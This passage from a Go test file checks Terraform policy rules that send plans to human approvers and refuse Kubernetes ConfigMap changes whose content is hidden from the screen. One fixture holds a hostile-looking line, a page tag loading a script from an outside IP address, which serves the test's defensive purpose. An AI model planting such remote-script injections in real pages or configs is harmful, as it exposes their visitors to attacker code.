	if _, err := ParsePlanRules(`[{"name":"x","expression":"true","message":"m","extra":1}]`); err == nil {
		t.Error("unknown field accepted")
	}
}

// TestPlanRulePlaceholders: the Terraform tools render the policy's plan rules and the approvers.
func TestPlanRulePlaceholders(t *testing.T) {
	c := loadDefault(t)
	apply, err := c.Tool("terraform_apply")
	if err != nil {
		t.Fatal(err)
	}
	inv, err := apply.Invoke(map[string]any{"workspace": "k8s-demo", "plan_id": strings.Repeat("a", 64)})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(inv.CheckArgv, "--plan-rules="+c.PlanRules.JSON()) {
		t.Errorf("check argv lacks the plan rules: %q", inv.CheckArgv)
	}
	for _, a := range inv.CheckArgv {
		if strings.HasPrefix(a, "--approvers") {
			t.Errorf("approvers rendered before any were set: %q", a)
		}
	}
	inv.SetApprovers([]string{"k2", "k1", "k2"})
	if !slices.Contains(inv.CheckArgv, "--approvers=k1,k2") {
		t.Errorf("check argv: %q", inv.CheckArgv)
	}
	plan, _ := c.Tool("terraform_plan")
	pinv, err := plan.Invoke(map[string]any{"workspace": "k8s-demo", "source": "tfws-" + strings.Repeat("0", 20)})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(pinv.Argv, "--plan-rules="+c.PlanRules.JSON()) {
		t.Errorf("plan argv lacks the plan rules: %q", pinv.Argv)
	}

	// A policy whose apply tool does not take them is refused.
	p := *c.Policy
	p.Spec.Tools = slices.Clone(p.Spec.Tools)
	for i := range p.Spec.Tools {
		if p.Spec.Tools[i].Name == "terraform_apply" {
			p.Spec.Tools[i].Check = p.Spec.Tools[i].Check[:2]
		}
	}
	errs := p.Validate()
	if !strings.Contains(errs.ToAggregate().Error(), "{{plan_rules}} and {{approvers}}") {
		t.Errorf("validation: %v", errs)
	}
}

var _ = plandiff.Unknown

// TestShippedPlanRulesConfigMaps: what a ConfigMap holds is what a workload reads or runs; the approver must
// be able to read all of it. A known text value that fits the screen passes; a value known only after apply
// (the whole data or one file), binary_data (base64 on the screen) and a value longer than the screen shows
// are refused.
func TestShippedPlanRulesConfigMaps(t *testing.T) {
	rules := loadDefault(t).PlanRules
	doc := func(after, unknown, sensitive any) map[string]any {
		return map[string]any{"format_version": "1.2", "resource_changes": []any{map[string]any{
			"address": "kubernetes_config_map.worker", "mode": "managed", "type": "kubernetes_config_map", "name": "worker",
			"change": map[string]any{"actions": []any{"create"}, "before": nil, "after": after, "after_unknown": unknown,
				"after_sensitive": sensitive}}}}
	}
	meta := []any{map[string]any{"name": "worker", "namespace": "demo-app"}}
	for _, tt := range []struct {
		name           string
		after, unknown map[string]any
		want           []string
		sensitive      any
	}{
		{"text that fits", map[string]any{"data": map[string]any{"run.sh": "echo ok"}, "binary_data": nil, "metadata": meta}, map[string]any{"id": true}, nil, nil},
		{"whole data known only after apply", map[string]any{"binary_data": nil, "metadata": meta}, map[string]any{"id": true, "data": true}, []string{"plan-config-known-at-plan"}, nil},
		{"one file known only after apply", map[string]any{"data": map[string]any{"a": "1"}, "metadata": meta}, map[string]any{"data": map[string]any{"run.sh": true}}, []string{"plan-config-known-at-plan"}, nil},
		{"binary data", map[string]any{"binary_data": map[string]any{"run.sh": "IyEvYmluL3NoCg=="}, "metadata": meta}, map[string]any{}, []string{"plan-no-binary-data"}, nil},
		{"longer than the screen shows", map[string]any{"data": map[string]any{"run.sh": strings.Repeat("#", plandiff.MaxStringBytes+1)}, "metadata": meta}, map[string]any{}, []string{"plan-values-shown-whole"}, nil},
		// Found in review (2026-12-07): a page with a script from elsewhere, marked sensitive, passed every rule.
		{"a file hidden from the screen (sensitive)", map[string]any{"data": map[string]any{"index.html": "<script src=//198.51.100.7/x.js>"}, "metadata": meta},
			map[string]any{}, []string{"plan-nothing-hidden"}, map[string]any{"data": map[string]any{"index.html": true}}},
		{"nothing sensitive", map[string]any{"data": map[string]any{"a": "1"}, "metadata": meta}, map[string]any{},
			nil, map[string]any{"data": map[string]any{"a": false}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := refusedRules(verdictOf(t, rules, doc(tt.after, tt.unknown, tt.sensitive))); !slices.Equal(got, tt.want) {
				t.Errorf("refused by %v, want %v", got, tt.want)
			}
		})
	}
}
